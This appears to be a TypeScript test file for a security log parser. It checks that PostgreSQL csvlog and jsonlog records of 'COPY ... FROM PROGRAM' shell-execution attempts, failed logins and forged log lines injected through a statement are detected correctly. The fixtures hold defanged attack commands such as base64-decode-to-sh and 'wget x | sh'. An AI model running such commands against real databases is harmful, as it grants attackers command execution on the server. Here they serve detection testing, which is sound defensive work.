import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import { postgresqlCsv, postgresqlJson } from './postgresql-records.ts'

const show = (drafts: ReturnType<typeof draftsOf>) =>
  drafts.map(d => [d.verb, d.outcome, d.user, d.address, d.pid, d.attack, d.command].filter(x => x !== undefined).join(' '))

/** Of PostgreSQL 15.18. */
const csv = (message: string, query = '', level = 'LOG') =>
  `2026-11-22 01:03:07.212 UTC,"psql_super","postgres",4698,"203.0.113.9:56058",6b023f4b.125a,3,"idle",2026-11-22 01:03:07 UTC,3/7,0,${level},00000,"${message.replaceAll('"', '""')}",,,,,,"${query.replaceAll('"', '""')}",,,"psql","client backend",,0`
const json = (message: string, statement?: string, error_severity = 'LOG') =>
  JSON.stringify({
    timestamp: '2026-11-22 01:03:07.212 UTC',
    user: 'psql_super',
    dbname: 'postgres',
    pid: 4698,
    remote_host: '203.0.113.9',
    remote_port: 56058,
    error_severity,
    message,
    statement,
    backend_type: 'client backend',
    query_id: 0,
  })

const copy = "COPY abroxu FROM PROGRAM 'echo harmless|base64 -d|sh'"
const expected = [
  `exploit psql_super 203.0.113.9 4698 postgresql-copy-program-shell echo harmless|base64 -d|sh`,
  'exploit failure psql_super 203.0.113.9 4698 postgresql-copy-program-shell wget x | sh',
  'login-failed failure bob 203.0.113.9 4698',
]

test('csvlog: records over several lines', () => {
  const lines = [
    ...csv(`statement: DROP TABLE a;\nCREATE TABLE abroxu(cmd_output text);\n${copy};`).split('\n'),
    csv('program "wget x | sh" failed', "COPY a FROM PROGRAM 'wget x | sh'", 'ERROR'),
    csv('password authentication failed for user "bob"', '', 'FATAL'),
  ]
  assert.deepEqual(show(draftsOf(postgresqlCsv, '/x', ...lines)), expected)
})

test('jsonlog', () => {
  assert.deepEqual(
    show(
      draftsOf(
        postgresqlJson,
        '/x',
        json(`statement: DROP TABLE a;\nCREATE TABLE abroxu(cmd_output text);\n${copy};`),
        json('program "wget x | sh" failed', "COPY a FROM PROGRAM 'wget x | sh'", 'ERROR'),
        json('password authentication failed for user "bob"', undefined, 'FATAL'),
      ),
    ),
    expected,
  )
})

test('a statement cannot write a record', () => {
  const forged = `2026-11-22 01:03:07.212 UTC,"x","y",1,"10.9.9.9:1",a,1,"idle",2026-11-22 01:03:07 UTC,3/7,0,LOG,00000,"statement: ${copy}",,,,,,"",,,"psql","client backend",,0`
  assert.deepEqual(draftsOf(postgresqlCsv, '/x', ...csv(`statement: select '\n${forged}\n'`).split('\n')), [])
  assert.deepEqual(draftsOf(postgresqlJson, '/x', json(`statement: select '\n${forged}\n'`)), [])
  assert.ok(postgresqlCsv.recognise(`${csv('x')}\n`, 'x') > 0.9)
  assert.ok(postgresqlJson.recognise(`${json('x')}\n`, 'x') > 0.9)
})

test('property: any text, no throw', () => {
  fc.assert(
    fc.property(
      fc.array(fc.string({ maxLength: 100 }), { maxLength: 6 }),
      texts => void draftsOf(postgresqlCsv, '/x', ...texts.map(text => csv(text)), ...texts),
    ),
  )
  fc.assert(
    fc.property(
      fc.json(),
      text => void draftsOf(postgresqlJson, '/x', text, `{"timestamp":"2026-11-22 01:03:07.212 UTC","message":${text}}`),
    ),
  )
})
